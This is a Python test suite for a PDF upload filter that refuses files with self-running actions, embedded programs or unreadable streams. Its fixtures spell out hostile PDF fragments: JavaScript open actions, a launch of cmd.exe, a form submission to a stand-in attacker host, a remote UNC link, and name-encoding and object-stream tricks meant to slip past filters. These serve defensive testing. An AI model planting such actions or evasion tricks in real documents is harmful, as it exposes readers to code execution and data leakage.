"""H17: PDFs that act by themselves are refused, however they are written; all others are kept."""

from __future__ import annotations

import zlib
from io import BytesIO

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from routing.work.file_types import pdfs
from routing.work.file_types.pdfs import check_pdf
from routing.work.file_types.refusal import NotKept
from tests import files

SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[]/Count 0>>"
INVOICE = b"<?xml version='1.0'?><rsm:CrossIndustryInvoice/>"


def written(*objects: bytes, trailer: bytes = b"<</Root 1 0 R>>") -> bytes:
    """A PDF of these objects."""
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % each for each in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer" + trailer + b"\n%%EOF\n"


def stream(content: bytes, description: bytes) -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (description, len(content), content)


def packed(content: bytes, description: bytes = b"/Type/ObjStm/N 1/First 4") -> bytes:
    return stream(zlib.compress(content), description + b"/Filter/FlateDecode")


def code_of(content: bytes) -> str:
    try:
        check_pdf(BytesIO(content))
    except NotKept as refusal:
        return refusal.code
    return "kept"


@pytest.mark.parametrize(
    "content",
    [
        written(b"<</Type/Catalog/OpenAction%s>>" % SCRIPT),
        written(b"<</Type/Catalog/OpenAction<</S/J#61vaScript/J#53 3 0 R>>>>"),
        written(
            b"<</Type/Catalog/AA<</WC<</S /J#41#76aScript/JS 3 0 R>>>>>>".replace(b"#41", b"a")
        ),
        written(b"<</Type/Catalog/Names<</JavaScript 3 0 R>>>>"),
        written(b"<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>"),
        written(b"<</Type/Catalog/OpenAction<</S/SubmitForm/F(http://evil.example)>>>>"),
        written(b"<</Type/Catalog/OpenAction<</S/GoToR/F(\\\\\\\\10.0.0.1\\\\a.pdf)>>>>"),
        written(b"<</Type/Annot/Subtype/RichMedia>>"),
        written(b"<</S/GoToE/T<</R/C>>>>"),
        written(b"<</S/ImportData/F(x.fdf)>>"),
        written(b"<</S/Rendition/JS 3 0 R>>"),
        written(CATALOG, packed(b"5 0 " + SCRIPT)),
        written(CATALOG, packed(b"5 0 " + SCRIPT, b"/Type/Obj#53tm/N 1/First 4")),
        written(CATALOG, packed(b" " * 1_000_000 + SCRIPT)),
        written(CATALOG, stream(zlib.compress(SCRIPT), b"/Filter[/Fl]/Type/ObjStm/N 1/First 4")),
        written(CATALOG, stream(b"5 0 " + SCRIPT, b"/Type/ObjStm/N 1/First 4")),
        b"%PDF-1.7\n" + b"%" * (pdfs.CHUNK - 14) + b"/JavaScript " + written(CATALOG),
    ],
)
def test_h17_what_acts_by_itself_is_refused(content: bytes) -> None:
    assert code_of(content) == "acts"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (written(CATALOG, stream(b"4a53", b"/Type/ObjStm/Filter/ASCIIHexDecode")), "sealed"),
        (written(CATALOG, packed(b"x", b"/Type/ObjStm/DecodeParms<</Predictor 12>>")), "sealed"),
        (written(CATALOG, packed(b"x"), trailer=b"<</Root 1 0 R/Encrypt 9 0 R>>"), "sealed"),
        (written(CATALOG, packed(b"5 0 " + files.EICAR)), "virus"),
        (written(CATALOG, packed(files.EXE, b"/Type/EmbeddedFile")), "embedded"),
        (written(CATALOG, stream(files.EXE, b"/Type /EmbeddedFile")), "embedded"),
        (written(CATALOG, packed(files.zipped({"a": b"x"}), b"/Type/EmbeddedFile")), "embedded"),
        (written(CATALOG, stream(b"4d5a", b"/Type/EmbeddedFile/Filter/AHx")), "embedded"),
    ],
)
def test_h17_programs_inside_and_what_cannot_be_looked_into_are_refused(
    content: bytes, code: str
) -> None:
    assert code_of(content) == code


@pytest.mark.parametrize(
    "content",
    [
        files.pdf(),
        files.pdf("Java and JavaScript, launched in spring"),
        written(CATALOG, packed(b"5 0 <</Type/Page/A<</S/URI/URI(https://example.com)>>>>")),
        written(CATALOG, packed(INVOICE, b"/Type/EmbeddedFile/Subtype/text#2Fxml")),
        written(b"<</Type/Catalog/OpenAction[3 0 R/Fit]>>", PAGES),
        written(b"<</Type/Catalog/JavaScripts 3 0 R/Launcher 1>>"),
        written(CATALOG, trailer=b"<</Root 1 0 R/Encrypt 9 0 R>>"),
        b"%PDF-1.4 /ObjStm /EmbeddedFile and nothing behind them",
    ],
)
def test_h17_other_documents_are_kept(content: bytes) -> None:
    """With links, a page to begin with, and the XML of an electronic invoice."""
    assert code_of(content) == "kept"


def test_h17_what_would_unpack_to_more_than_is_read_is_refused(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(pdfs, "MOST_UNPACKED_BYTES", 1 << 20)

    assert code_of(written(CATALOG, packed(b" " * (1 << 20)))) == "kept"
    assert code_of(written(CATALOG, packed(b" " * (1 << 20) + b"  "))) == "sealed"
    assert code_of(written(CATALOG, *[packed(b"x")] * 300)) == "sealed"


@given(st.binary(max_size=2000), st.binary(max_size=2000))
@example(b"/ObjStm stream\n", b"stream\r\n")
def test_h17_no_bytes_make_the_check_fail(before: bytes, after: bytes) -> None:
    """And a script is found whatever stands around it."""
    code_of(before + after)
    assert code_of(before + SCRIPT + after) != "kept"
